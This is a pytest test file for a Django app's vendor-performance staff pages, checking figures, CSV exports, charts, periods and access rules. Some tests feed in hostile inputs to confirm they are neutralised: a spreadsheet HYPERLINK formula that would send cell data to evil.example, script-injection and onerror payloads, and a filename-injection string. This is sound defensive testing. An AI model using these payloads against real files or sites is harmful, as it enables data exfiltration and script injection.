"""The vendor performance pages (SPEC §13): what an agency's staff read on them and in their CSV
files equals what the post log holds, for the users who may read it, and nothing else.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext, override_settings
from django.utils import timezone

from leadpost.accounts.models import Account, Permission, User
from leadpost.conftest import PostFn
from leadpost.intake.models import LeadPostUrl, PostLog, PostResult
from leadpost.lib.choices import RecordType
from leadpost.vendors.chart import posts_chart
from leadpost.vendors.counts import REFUSED
from leadpost.vendors.present import CSV_COLUMNS
from leadpost.vendors.rollup import roll_up

SVG = "{http://www.w3.org/2000/svg}"
SSN = "123-45-6789"
FORM = "application/x-www-form-urlencoded"
CHICAGO_WINTER = dt.timezone(dt.timedelta(hours=-6))


def lead(n: int, **extra: str) -> dict[str, str]:
    return {"firstName": "Pat", "lastName": f"Lee{n}", "externalID": f"ext-{n}", **extra}


# --- reading a page as its reader does ------------------------------------------------------


@dataclass
class Row:
    attrs: dict[str, str]
    cells: list[tuple[str, str]] = field(default_factory=list)  # (class, text)

    def cell(self, name: str) -> str:
        return next(text for classes, text in self.cells if name in classes.split())


class _Tables(HTMLParser):
    """The rows of every table of a page that has an id, by that id."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[Row]] = {}
        self._table: str | None = None
        self._cell: tuple[str, list[str]] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        if tag == "table":
            self._table = values.get("id")
            if self._table:
                self.tables[self._table] = []
        elif tag == "tr" and self._table:
            self.tables[self._table].append(Row(values))
        elif tag in ("td", "th") and self._table:
            self._cell = (values.get("class", ""), [])

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self._table = None
        elif tag in ("td", "th") and self._table and self._cell:
            classes, texts = self._cell
            self.tables[self._table][-1].cells.append((classes, " ".join("".join(texts).split())))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell:
            self._cell[1].append(data)


def tables(html: str) -> dict[str, list[Row]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def rows(html: str, table: str, kind: str) -> list[Row]:
    return [r for r in tables(html)[table] if kind in r.attrs.get("class", "").split()]


def charts(html: str) -> list[ET.Element]:
    """The page's charts, parsed as XML: a chart that is not well-formed fails here."""
    return [
        ET.fromstring(svg)
        for svg in re.findall(r"<svg [^>]*class=\"posts-chart\".*?</svg>", html, re.S)
    ]


def chart_days(chart: ET.Element) -> list[dict[str, str]]:
    return [dict(g.attrib) for g in chart.iter(f"{SVG}g") if g.get("class") == "day"]


def tooltips(chart: ET.Element) -> list[str]:
    return [t.text or "" for t in chart.iter(f"{SVG}title")]


def text(response: Any) -> str:
    return str(response.content.decode())


def csv_rows(response: Any) -> list[list[str]]:
    """The rows of a staff CSV, which starts with a UTF-8 byte-order mark for spreadsheets."""
    content = text(response)
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline="")))


# --- the cast -------------------------------------------------------------------------------


@pytest.fixture
def vera(agency: Account, staff_member: Any) -> User:
    """Our agency's admin who reads vendors' figures: the post log, Sales Enablement, URLs."""
    return staff_member(
        agency,
        "vera",
        Permission.VIEW_POST_LOG,
        Permission.SALES_ENABLEMENT,
        Permission.MANAGE_URLS,
        first_name="Vera",
        last_name="Vendors",
    )


def logged_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def staff(vera: User) -> Client:
    return logged_in(vera)


@pytest.fixture
def datalot(vendor_url: tuple[LeadPostUrl, str]) -> LeadPostUrl:
    return vendor_url[0]


@pytest.fixture
def mixed(post: PostFn, client: Client, vendor_url: tuple[LeadPostUrl, str], alice: User) -> None:
    """Posts of every kind a vendor makes to Datalot: created (one with a bad birth date, one
    for Alice), a duplicate, a rejected one, a dry run, and two refused: JSON (415) and a body
    over the limit (413)."""
    token = vendor_url[1]
    assert post(lead(1)).json()["result"] == "created"
    assert post(lead(2, birthDate="1980-13-45")).json()["result"] == "created"
    assert post(lead(3, servicingAgentFirstName="Alice", servicingAgentLastName="Agent")).json()[
        "servicingAgent"
    ]
    assert post(lead(1)).json()["result"] == "duplicate"
    assert post({"firstName": "No last name"}).status_code == 400
    assert post(lead(4), suffix="/test").json()["result"] == "test"
    as_json = client.post(
        f"/leadpost/{token}", json.dumps(lead(5)), content_type="application/json"
    )
    assert as_json.status_code == 415
    with override_settings(LEADPOST_MAX_BODY_BYTES=2048):
        assert post(lead(6, title="x" * 5000)).status_code == 413


def post_log_figures(url: LeadPostUrl) -> dict[str, int]:
    """What the post log says of `url`, counted here without the counters."""
    results = list(PostLog.objects.filter(lead_post_url=url).values_list("result", flat=True))
    return {
        "posts": sum(r != PostResult.TEST for r in results),
        "created": results.count(PostResult.CREATED),
        "duplicate": results.count(PostResult.DUPLICATE),
        "rejected": results.count(PostResult.REJECTED),
        "refused": sum(r in REFUSED for r in results),
        "dry-runs": results.count(PostResult.TEST),
    }


def shown_figures(row: Row) -> dict[str, int]:
    return {
        name: int(row.cell(name))
        for name in ("posts", "created", "duplicate", "rejected", "refused", "dry-runs")
    }


def today_of(account: Account) -> dt.date:
    return account.local_date(timezone.now())


# --- the figures ----------------------------------------------------------------------------


def test_the_vendors_page_shows_what_the_post_log_holds(
    staff: Client, agency: Account, datalot: LeadPostUrl, mixed: None
) -> None:
    quotes, token = LeadPostUrl.issue(agency, "QuoteWizard")
    quotes.price_per_lead = Decimal("10.00")
    quotes.save()
    for n in (7, 8):
        Client().post(f"/leadpost/{token}", f"firstName=Q&lastName=W{n}", content_type=FORM)

    response = staff.get("/staff/vendors/")
    assert response.status_code == 200
    page = text(response)
    vendors = {r.attrs["data-url-id"]: r for r in rows(page, "vendors", "vendor")}
    assert set(vendors) == {str(datalot.pk), str(quotes.pk)}
    ours = shown_figures(vendors[str(datalot.pk)])
    assert ours == post_log_figures(datalot)
    assert ours == {
        "posts": 7,
        "created": 3,
        "duplicate": 1,
        "rejected": 1,
        "refused": 2,
        "dry-runs": 1,
    }
    row = vendors[str(datalot.pk)]
    assert row.cell("label") == "Datalot"
    assert row.cell("duplicate-rate") == "14.3%"  # 1 of 7 posts
    assert row.cell("rejected-rate") == "14.3%"
    assert row.cell("median").endswith(" ms") and row.cell("p95").endswith(" ms")
    assert row.cell("spend") == "—"  # Datalot has no price
    assert shown_figures(vendors[str(quotes.pk)]) == post_log_figures(quotes)
    assert vendors[str(quotes.pk)].cell("spend") == "$20.00"

    (total,) = rows(page, "vendors", "total")
    assert shown_figures(total) == {
        k: a + b for (k, a), b in zip(ours.items(), post_log_figures(quotes).values(), strict=True)
    }
    assert total.cell("spend") == "$20.00"

    # The account's chart: 7 days, today's bar made of both vendors' posts.
    (chart,) = charts(page)
    days = chart_days(chart)
    assert len(days) == 7
    today = today_of(agency).isoformat()
    assert days[-1]["data-day"] == today
    assert (days[-1]["data-created"], days[-1]["data-duplicate"]) == ("5", "1")
    assert (days[-1]["data-rejected"], days[-1]["data-refused"]) == ("1", "2")
    assert all(d["data-posts"] == "0" for d in days[:-1])
    assert f"{today_of(agency):%b} {today_of(agency).day}, {today_of(agency).year}: 5 created" in (
        tooltips(chart)
    )
    # Each label links to the vendor's page for the same period.
    assert f'href="/staff/vendors/{datalot.pk}/?period=7"' in page


def test_the_vendor_page_shows_rates_warnings_answer_times_agents_and_spend(
    staff: Client, agency: Account, datalot: LeadPostUrl, mixed: None, alice: User
) -> None:
    datalot.price_per_lead = Decimal("12.50")
    datalot.save()
    response = staff.get(f"/staff/vendors/{datalot.pk}/")
    assert response.status_code == 200
    page = text(response)
    figures = {r.cells[1][0].split()[-1]: r.cells[1][1] for r in tables(page)["vendor-figures"]}
    assert figures["posts"] == "7" and figures["created"] == "3"
    assert figures["refused"] == "2" and figures["dry-runs"] == "1"
    assert figures["median"].endswith(" ms") and figures["p95"].endswith(" ms")
    (refused_by,) = [
        c for r in tables(page)["vendor-figures"] for c in r.cells if c[0] == "refused-by"
    ]
    assert refused_by[1] == "Body too large: 1; Unsupported content type: 1"
    assert "14.3% of posts" in page  # the duplicate and rejection rates

    warnings = {(w.cell("field"), w.cell("code")): w for w in rows(page, "warnings", "warning")}
    birth = warnings[("birthDate", "invalid_date")]
    assert birth.cell("posts") == "1"
    assert birth.cell("share") == "14.3%"  # of the 7 posts
    assert birth.cell("example") == "1980-13-45"
    assert "MM/DD/YYYY" in birth.cell("message")

    agents = {a.cell("name"): a.cell("leads") for a in rows(page, "agents", "agent")}
    assert agents == {"Alice Agent": "1", "(no agent)": "2"}
    assert '<span class="spend">$37.50</span>: 3 created leads at' in page
    assert 'at <span class="price">$12.50</span> per lead' in page

    (chart,) = charts(page)
    today = chart_days(chart)[-1]
    assert today["data-day"] == today_of(agency).isoformat()
    assert (today["data-created"], today["data-refused"]) == ("3", "2")


def test_the_spend_is_what_created_leads_cost(
    staff: Client, agency: Account, datalot: LeadPostUrl, post: PostFn
) -> None:
    datalot.price_per_lead = Decimal("12.50")
    datalot.save()
    for n in range(3):
        assert post(lead(n)).json()["result"] == "created"
    assert post(lead(0)).json()["result"] == "duplicate"  # not paid for
    page = text(staff.get(f"/staff/vendors/{datalot.pk}/"))
    assert '<span class="spend">$37.50</span>: 3 created leads at' in page
    (row,) = rows(text(staff.get("/staff/vendors/")), "vendors", "vendor")
    assert row.cell("spend") == "$37.50"


def test_the_23_percent_of_birth_dates_a_vendor_gets_wrong(
    staff: Client, datalot: LeadPostUrl, post: PostFn
) -> None:
    for n in range(100):
        birth = "1980-04-31" if n < 23 else "04/30/1980"
        assert post(lead(n, birthDate=birth)).status_code == 200
    page = text(staff.get(f"/staff/vendors/{datalot.pk}/?period=today"))
    (birth,) = [w for w in rows(page, "warnings", "warning") if w.cell("field") == "birthDate"]
    assert (birth.cell("posts"), birth.cell("share")) == ("23", "23.0%")
    assert birth.cell("example") == "1980-04-31"


def test_the_figures_survive_the_roll_up_and_the_purge(
    staff: Client, datalot: LeadPostUrl, mixed: None
) -> None:
    from django.core.management import call_command

    before = shown_figures(rows(text(staff.get("/staff/vendors/")), "vendors", "vendor")[0])
    roll_up(timezone.now() + dt.timedelta(days=1, minutes=11))
    call_command("purge_post_log", days=0)
    assert not PostLog.objects.exists()
    after = shown_figures(rows(text(staff.get("/staff/vendors/")), "vendors", "vendor")[0])
    assert after == before


# --- periods --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "days", "label"),
    [
        ("", 7, "Last 7 days"),
        ("?period=today", 1, "Today"),
        ("?period=7", 7, "Last 7 days"),
        ("?period=30", 30, "Last 30 days"),
        ("?period=90", 90, "Last 90 days"),
        ("?from=2026-11-01&to=2026-11-03", 3, "Nov 1, 2026 – Nov 3, 2026"),
        ("?from=2025-12-01&to=2026-12-01", 366, "Dec 1, 2025 – Dec 1, 2026"),
    ],
)
def test_period_choices(
    staff: Client, datalot: LeadPostUrl, post: PostFn, query: str, days: int, label: str
) -> None:
    assert post(lead(1)).status_code == 200
    for path in ("/staff/vendors/", f"/staff/vendors/{datalot.pk}/"):
        response = staff.get(path + query)
        assert response.status_code == 200
        page = text(response)
        (chart,) = charts(page)
        assert len(chart_days(chart)) == days
        assert f"<strong>{label}</strong>" in page
        for key in ("today", "7", "30", "90"):
            assert f'href="?period={key}"' in page
    if query.startswith("?period="):
        assert f'data-period="{query[8:]}" aria-current="true"' in page
    if query.startswith("?from="):
        first, last = re.findall(r"\d{4}-\d\d-\d\d", query)
        assert f'value="{first}"' in page and f'value="{last}"' in page
        # The downloads keep the period, spelled from the dates, not from what was typed.
        assert f"days.csv?from={first}&amp;to={last}" in page


BAD_PERIODS = [
    ({"period": "8"}, "period must be one of: today, 7, 30, 90."),
    ({"period": "<script>alert(1)</script>"}, "period must be one of"),
    ({"from": "2026-13-01"}, "from must be a date as YYYY-MM-DD."),
    ({"from": "2026-12-01", "to": "2026-11-01"}, "to must not be before from."),
    ({"to": "2026-11-01"}, "from is needed with to"),
    ({"from": "2020-01-01", "to": "2026-01-01"}, "A period is at most 366 days."),
    ({"from": "9999-12-31", "to": "9999-12-31"}, "from must be a date from 2000-01-01"),
    ({"from": "0001-01-01", "to": "0001-01-02"}, "from must be a date from 2000-01-01"),
    ({"from": "2026-12-01", "to": "9999-12-31"}, "to must be a date from 2000-01-01"),
    ({"from": "２０２６-１２-０１"}, "from must be a date as YYYY-MM-DD."),
    ({"from": "2026-12-01\x00"}, "from must be a date as YYYY-MM-DD."),
    ({"from": "2026-12-01" + "9" * 100_000}, "from must be a date as YYYY-MM-DD."),
]


@pytest.mark.parametrize(("params", "message"), BAD_PERIODS)
def test_a_bad_period_is_said_in_words_with_a_400(
    staff: Client, datalot: LeadPostUrl, params: dict[str, str], message: str
) -> None:
    for path in (
        "/staff/vendors/",
        "/staff/vendors/vendors.csv",
        f"/staff/vendors/{datalot.pk}/",
        f"/staff/vendors/{datalot.pk}/days.csv",
        f"/staff/vendors/{datalot.pk}/warnings.csv",
    ):
        response = staff.get(path, params)
        assert response.status_code == 400, path
        page = text(response)
        assert response["Content-Type"].startswith("text/html")
        (error,) = re.findall(r'<p class="errornote" id="period-error">(.*?)</p>', page)
        assert error.startswith(message.replace("<", "&lt;").replace(">", "&gt;"))
        assert "<script>alert" not in page and "\x00" not in page
        assert len(page) < 100_000  # what was typed is not echoed


# --- who sees what --------------------------------------------------------------------------


def pages_of(url: LeadPostUrl) -> list[str]:
    return [
        "/staff/vendors/",
        "/staff/vendors/vendors.csv",
        f"/staff/vendors/{url.pk}/",
        f"/staff/vendors/{url.pk}/days.csv",
        f"/staff/vendors/{url.pk}/warnings.csv",
    ]


def test_another_accounts_url_or_a_bad_id_is_a_plain_404(
    staff: Client, other_agency: Account, datalot: LeadPostUrl
) -> None:
    theirs, _ = LeadPostUrl.issue(other_agency, "Otter Leads")
    for url_id in (
        str(theirs.pk),
        "abc",
        "-1",
        "1e3",
        "٣",  # an Arabic-Indic digit: a digit to str.isdigit, not an id
        "9" * 18,
        "9" * 30,
        "99999999999999999999999999999999999999999",
        "%00",
    ):
        for suffix in ("", "days.csv", "warnings.csv"):
            path = f"/staff/vendors/{url_id}/{suffix}"
            for params in ({}, {"period": "bad"}):
                response = staff.get(path, params)
                assert response.status_code == 404, (path, params)
                assert "Otter" not in text(response)


def test_a_user_without_view_post_log_gets_the_403_that_names_it(
    agency: Account, datalot: LeadPostUrl, staff_member: Any, vera: User
) -> None:
    # Every permission but View Lead Post Log.
    others = [p for p in Permission if p != Permission.VIEW_POST_LOG]
    client = logged_in(staff_member(agency, "mona", *others))
    for path in pages_of(datalot):
        response = client.get(path)
        assert response.status_code == 403, path
        assert "You need the View Lead Post Log permission" in text(response)
    assert 'id="vendor-performance"' not in text(client.get("/staff/"))
    # The URL's own page shows no figures to her.
    change = client.get(f"/staff/intake/leadposturl/{datalot.pk}/change/")
    assert change.status_code == 200
    assert 'id="vendor-summary"' not in text(change)
    # Vera may: the staff index links to the page.
    index = text(logged_in(vera).get("/staff/"))
    assert '<a href="/staff/vendors/">Vendor performance</a>' in index


def test_an_operator_is_told_the_pages_are_an_accounts(
    datalot: LeadPostUrl, django_user_model: Any
) -> None:
    root = User.objects.create_superuser("root", "root@leadpost.example", "pw-root-77x")
    client = logged_in(root)
    for path in pages_of(datalot):
        response = client.get(path)
        assert response.status_code == 403, path
        assert "an operator belongs to no agency" in text(response)
    assert 'id="vendor-performance"' not in text(client.get("/staff/"))
    change = client.get(f"/staff/intake/leadposturl/{datalot.pk}/change/")
    assert change.status_code == 200 and 'id="vendor-summary"' not in text(change)


def test_sales_record_mode_posts_are_shown_only_with_sales_enablement(
    agency: Account, datalot: LeadPostUrl, post: PostFn, staff_member: Any, staff: Client
) -> None:
    assert post(lead(1)).status_code == 200
    agency.record_mode = RecordType.SALES_RECORD
    agency.save()
    assert post(lead(2)).status_code == 200
    assert post({"firstName": "Only"}).status_code == 400  # a rejected Sales Record mode post
    assert post(lead(3), suffix="/test").status_code == 200
    nina = logged_in(staff_member(agency, "nina", Permission.VIEW_POST_LOG, Permission.MANAGE_URLS))

    def seen(client: Client) -> dict[str, int]:
        return shown_figures(rows(text(client.get("/staff/vendors/")), "vendors", "vendor")[0])

    assert seen(staff) == {
        "posts": 3,
        "created": 2,
        "duplicate": 0,
        "rejected": 1,
        "refused": 0,
        "dry-runs": 1,
    }
    assert seen(nina) == {
        "posts": 1,
        "created": 1,
        "duplicate": 0,
        "rejected": 0,
        "refused": 0,
        "dry-runs": 0,
    }
    hidden = "Posts made in Sales Record mode are not included"
    for path in ("/staff/vendors/", f"/staff/vendors/{datalot.pk}/"):
        assert hidden in text(nina.get(path))
        assert hidden not in text(staff.get(path))
    (total,) = [r for r in csv_rows(nina.get("/staff/vendors/vendors.csv")) if r[0] == "total"]
    assert total[CSV_COLUMNS.index("posts")] == "1"
    (chart,) = charts(text(nina.get(f"/staff/vendors/{datalot.pk}/")))
    assert chart_days(chart)[-1]["data-created"] == "1"
    summary = text(nina.get(f"/staff/intake/leadposturl/{datalot.pk}/change/"))
    assert '<span class="posts">1</span> post:' in summary
    assert hidden in summary


def test_no_ssn_and_no_url_token_reach_a_page_or_a_csv(
    staff: Client, datalot: LeadPostUrl, vendor_url: tuple[LeadPostUrl, str], post: PostFn
) -> None:
    token = vendor_url[1]
    sent = lead(
        1,
        birthDate=SSN,
        title=token,
        occupation="123456789",
        custom_Unknown=f"call {SSN} at /leadpost/{token}",
        **{token: "a token as a parameter's name", SSN: "an SSN as one"},
    )
    assert post(sent).status_code == 200
    assert post(lead(2, birthDate=f"{SSN} {token}")).status_code == 200
    bodies = [text(staff.get(path)) for path in pages_of(datalot)]
    bodies.append(text(staff.get(f"/staff/intake/leadposturl/{datalot.pk}/change/")))
    assert 'id="vendor-summary"' in bodies[-1]
    warned = " ".join(bodies)
    assert "ssn_masked" in warned and "unknown_parameter" in warned  # the warnings are shown
    for body in bodies:
        assert SSN not in body and "123456789" not in body and "123-45-" not in body
        assert token not in body and token[:10] not in body


# --- CSV ------------------------------------------------------------------------------------


def test_the_csv_parses_and_its_counts_match_the_page(
    staff: Client, agency: Account, datalot: LeadPostUrl, mixed: None
) -> None:
    response = staff.get("/staff/vendors/vendors.csv", {"period": "7", "name": 'x"; evil.exe'})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = today_of(agency)
    first = today - dt.timedelta(days=6)
    assert response["Content-Disposition"] == (
        f'attachment; filename="vendors-{first.isoformat()}-to-{today.isoformat()}.csv"'
    )
    table = csv_rows(response)
    assert table[0] == CSV_COLUMNS
    by_day = {r[0]: dict(zip(CSV_COLUMNS, r, strict=True)) for r in table[1:]}
    assert len(table) == 1 + 7 + 1  # a row per day, then the total
    assert set(by_day) == {(first + dt.timedelta(days=n)).isoformat() for n in range(7)} | {"total"}
    page = shown_figures(rows(text(staff.get("/staff/vendors/")), "vendors", "vendor")[0])
    total = by_day["total"]
    assert {k: int(total[k.replace("-", "_")]) for k in page} == page
    assert by_day[today.isoformat()]["created"] == "3"
    assert total["vendor"] == "Datalot" and total["lead_post_url_id"] == str(datalot.pk)

    days = staff.get(f"/staff/vendors/{datalot.pk}/days.csv", {"period": "30"})
    assert days["Content-Disposition"].startswith(
        f'attachment; filename="vendor-{datalot.pk}-days-'
    )
    assert len(csv_rows(days)) == 1 + 30 + 1

    warnings = staff.get(f"/staff/vendors/{datalot.pk}/warnings.csv")
    assert warnings["Content-Type"] == "text/csv; charset=utf-8"
    assert warnings["Content-Disposition"].startswith(
        f'attachment; filename="vendor-{datalot.pk}-warnings-'
    )
    header, *found = csv_rows(warnings)
    assert header == ["field", "code", "posts", "share", "example", "message"]
    birth = next(r for r in found if r[:2] == ["birthDate", "invalid_date"])
    assert birth[2:5] == ["1", "0.1429", "1980-13-45"]


@pytest.mark.parametrize(
    "label",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)"],
)
def test_a_formula_label_is_neutralised_in_the_csv(
    staff: Client, agency: Account, post: PostFn, datalot: LeadPostUrl, label: str
) -> None:
    datalot.label = label
    datalot.save()
    assert post(lead(1)).status_code == 200
    table = csv_rows(staff.get("/staff/vendors/vendors.csv"))
    vendors = {r[CSV_COLUMNS.index("vendor")] for r in table[1:]}
    assert vendors == {"'" + label}


def test_labels_are_escaped_everywhere(
    staff: Client, agency: Account, datalot: LeadPostUrl, post: PostFn
) -> None:
    datalot.label = '<script>alert("x")</script> & <b>Quotes</b>'
    datalot.save()
    assert post(lead(1, **{"<img src=x onerror=alert(1)>": "1"})).status_code == 200
    for path in (
        "/staff/vendors/",
        f"/staff/vendors/{datalot.pk}/",
        f"/staff/vendors/{datalot.pk}/?period=x",
    ):
        page = text(staff.get(path))
        assert "<script>alert" not in page and "<b>Quotes" not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &lt;b&gt;Quotes" in page
        for chart in charts(page):  # well-formed XML, whatever the label
            assert chart_days(chart)


# --- the Lead Post URL's page ---------------------------------------------------------------


def test_the_url_change_page_shows_its_last_7_days(
    staff: Client, agency: Account, datalot: LeadPostUrl, mixed: None
) -> None:
    response = staff.get(f"/staff/intake/leadposturl/{datalot.pk}/change/")
    assert response.status_code == 200
    page = text(response)
    summary = page[page.index('id="vendor-summary"') : page.index('class="posts-chart"')]
    assert '<span class="posts">7</span> posts: <span class="created">3</span> created' in summary
    assert '<span class="duplicate-rate">14.3%</span>' in summary
    assert '<span class="rejected-rate">14.3%</span>' in summary
    assert "<code>birthDate</code> invalid_date in 14.3% of posts (1)" in summary
    assert f'href="/staff/vendors/{datalot.pk}/"' in summary
    (chart,) = charts(page)
    days = chart_days(chart)
    assert len(days) == 7 and days[-1]["data-created"] == "3"
    assert 'name="price_per_lead"' in page  # and the form to set the price, below


def test_an_admin_sets_the_price_per_lead(
    staff: Client, agency: Account, datalot: LeadPostUrl, post: PostFn
) -> None:
    response = staff.post(
        f"/staff/intake/leadposturl/{datalot.pk}/change/",
        {"label": "Datalot", "enabled": "on", "price_per_lead": "12.50"},
    )
    assert response.status_code == 302, text(response)
    datalot.refresh_from_db()
    assert datalot.price_per_lead == Decimal("12.50")
    added = staff.post(
        "/staff/intake/leadposturl/add/",
        {"label": "QuoteWizard", "enabled": "on", "price_per_lead": "7.25"},
    )
    assert added.status_code == 302, text(added)
    assert LeadPostUrl.objects.get(label="QuoteWizard").price_per_lead == Decimal("7.25")
    refused = staff.post(
        f"/staff/intake/leadposturl/{datalot.pk}/change/",
        {"label": "Datalot", "enabled": "on", "price_per_lead": "-1"},
    )
    assert refused.status_code == 200  # the form again, with the error
    datalot.refresh_from_db()
    assert datalot.price_per_lead == Decimal("12.50")


# --- time zones and speed -------------------------------------------------------------------


def test_days_and_times_are_the_accounts(
    staff: Client, agency: Account, datalot: LeadPostUrl, post: PostFn
) -> None:
    assert post(lead(1)).status_code == 200
    # 23:30 in Chicago on Nov 30 is 05:30 UTC on Dec 1: the post is Nov 30's.
    PostLog.objects.update(received_at=dt.datetime(2026, 11, 30, 23, 30, tzinfo=CHICAGO_WINTER))
    page = text(
        staff.get(f"/staff/vendors/{datalot.pk}/", {"from": "2026-11-29", "to": "2026-12-02"})
    )
    (chart,) = charts(page)
    created = {d["data-day"]: d["data-created"] for d in chart_days(chart)}
    assert created == {"2026-11-29": "0", "2026-11-30": "1", "2026-12-01": "0", "2026-12-02": "0"}
    assert "Nov 30, 2026: 1 created" in tooltips(chart)
    now = timezone.localtime(timezone.now(), agency.tz)
    assert f"days in America/Chicago; figures as of {now:%b} {now.day}, {now.year}" in page
    assert f" {now:%Z}." in page  # the time, in the account's zone (CST or CDT)


def test_a_page_makes_as_many_queries_for_ten_urls_as_for_one(
    agency: Account, other_agency: Account, staff_member: Any
) -> None:
    """One `report()` a page, whatever the number of URLs: no query per row."""
    tokens = {
        agency: [LeadPostUrl.issue(agency, "Datalot")[1]],
        other_agency: [LeadPostUrl.issue(other_agency, f"Vendor {n}")[1] for n in range(10)],
    }
    vendor = Client()
    for account, account_tokens in tokens.items():
        LeadPostUrl.objects.filter(account=account).update(price_per_lead=Decimal("3.00"))
        for n, token in enumerate(account_tokens):
            vendor.post(f"/leadpost/{token}", f"firstName=A&lastName=Old{n}", content_type=FORM)
    # Those days are closed and rolled up; today's posts are read live from the post log.
    PostLog.objects.update(received_at=timezone.now() - dt.timedelta(days=3))
    roll_up()
    for account_tokens in tokens.values():
        for n, token in enumerate(account_tokens):
            body = f"firstName=A&lastName=New{n}&birthDate=1980-13-45"
            vendor.post(f"/leadpost/{token}", body, content_type=FORM)

    def queries(account: Account, page: str) -> int:
        client = logged_in(
            staff_member(account, f"reader{account.pk}{page}", Permission.VIEW_POST_LOG)
        )
        url = LeadPostUrl.objects.filter(account=account).first()
        assert url is not None
        path = f"/staff/vendors/{url.pk}/" if page == "url" else "/staff/vendors/"
        with CaptureQueriesContext(connection) as captured:
            response = client.get(path)
            assert response.status_code == 200
        assert "invalid_date" in text(response) or page == "all"
        return len(captured)

    for page in ("all", "url"):
        assert queries(other_agency, page) == queries(agency, page)


# --- the chart ------------------------------------------------------------------------------


def _day(n: int) -> dt.date:
    return dt.date(2026, 12, 1) + dt.timedelta(days=n)


def test_the_chart_draws_a_group_per_day_with_tooltips_and_totals() -> None:
    days = [
        (_day(n), {"created": 12, "duplicate": n, "rejected": 1, "refused": 0}) for n in range(7)
    ]
    chart = ET.fromstring(posts_chart(days))
    groups = chart_days(chart)
    assert [g["data-day"] for g in groups] == [_day(n).isoformat() for n in range(7)]
    assert groups[0] == {
        "class": "day",
        "data-day": "2026-12-01",
        "data-posts": "13",
        "data-created": "12",
        "data-duplicate": "0",
        "data-rejected": "1",
        "data-refused": "0",
        "data-over_cap": "0",
    }
    titles = tooltips(chart)
    assert "Dec 1, 2026: 12 created" in titles
    assert "Dec 1, 2026: 1 rejected" in titles
    assert "Dec 1, 2026: 0 duplicate" not in titles  # no segment for nothing
    assert "Dec 1, 2026: 13 posts (12 created, 1 rejected)" in titles
    totals = [t.text for t in chart.iter(f"{SVG}text") if t.get("class") == "total"]
    assert totals == [str(13 + n) for n in range(7)]
    labels = [t.text for t in chart.iter(f"{SVG}text") if t.get("class") == "day-label"]
    assert labels == [f"Dec {n + 1}" for n in range(7)]
    legend = [
        g.get("data-result") for g in chart.iter(f"{SVG}g") if g.get("class") == "legend-item"
    ]
    assert legend == ["created", "duplicate", "rejected", "refused", "over_cap"]
    # Bars stack: a day's segments are as high as its total, the highest day the tallest.
    heights = {
        g.get("data-day"): sum(float(r.get("height", 0)) for r in g if r.get("data-result"))
        for g in chart.iter(f"{SVG}g")
        if g.get("class") == "day"
    }
    assert max(heights, key=lambda d: heights[d] or 0) == _day(6).isoformat()


def test_the_chart_of_one_day_and_of_366_days() -> None:
    one = ET.fromstring(posts_chart([(_day(0), {"created": 5})]))
    assert len(chart_days(one)) == 1
    assert [t.text for t in one.iter(f"{SVG}text") if t.get("class") == "total"] == ["5"]
    year = [(_day(n), {"created": 10_000 + n, "refused": n % 3}) for n in range(366)]
    chart = ET.fromstring(posts_chart(year))
    groups = chart_days(chart)
    assert len(groups) == 366 and groups[-1]["data-day"] == _day(365).isoformat()
    assert groups[200]["data-created"] == "10200" and groups[200]["data-refused"] == "2"
    assert "Jun 19, 2027: 10200 created" in tooltips(chart)
    # No room for "10200" above a bar a few pixels wide; a few day labels, not 366.
    assert not [t for t in chart.iter(f"{SVG}text") if t.get("class") == "total"]
    labels = [t for t in chart.iter(f"{SVG}text") if t.get("class") == "day-label"]
    assert 5 <= len(labels) <= 16
    # Every bar stays inside the drawing.
    for rect in chart.iter(f"{SVG}rect"):
        assert 0 <= float(rect.get("x", 0)) <= 960 and 0 <= float(rect.get("y", 0)) <= 280


def test_the_chart_of_no_posts() -> None:
    chart = ET.fromstring(posts_chart([(_day(n), {}) for n in range(30)]))
    groups = chart_days(chart)
    assert len(groups) == 30 and {g["data-posts"] for g in groups} == {"0"}
    assert [t.text for t in chart.iter(f"{SVG}text") if t.get("class") == "empty"] == [
        "No posts in this period."
    ]
    assert not [r for r in chart.iter(f"{SVG}rect") if r.get("data-result")]
    assert "Dec 1, 2026: 0 posts" in tooltips(chart)
    assert ET.fromstring(posts_chart([])).get("data-days") == "0"  # an empty chart, no error


def test_the_chart_escapes_its_caption() -> None:
    caption = '<script>alert("x")</script>\x00' + "€" * 1_000_000
    svg = posts_chart([(_day(0), {"created": 1})], caption=caption)
    chart = ET.fromstring(svg)
    assert "<script>" not in svg and "\x00" not in svg
    assert chart.get("aria-label", "").startswith('<script>alert("x")</script>')
    assert len(svg) < 10_000


def test_control_characters_and_long_labels_are_shown_harmless(
    staff: Client, datalot: LeadPostUrl, post: PostFn
) -> None:
    # 200 characters is the most the column holds on PostgreSQL; a NUL it refuses outright.
    datalot.label = "\x01\x1b[31mRed\x7f" + "W" * 190
    datalot.save()
    assert post(lead(1)).status_code == 200
    for path in ("/staff/vendors/", f"/staff/vendors/{datalot.pk}/"):
        page = text(staff.get(path))
        assert "\x01" not in page and "\x1b" not in page and "\x7f" not in page
        assert "\N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}[31mRed" in page
        assert "W" * 200 not in page and "W" * 100 + "…" in page


def test_a_label_as_a_page_shows_it() -> None:
    from leadpost.vendors.views import _printable

    assert _printable("Data\x00lot") == "Data\N{REPLACEMENT CHARACTER}lot"
    shown = _printable("é" * 1_000_000)
    assert len(shown) == 120 and shown.endswith("…")
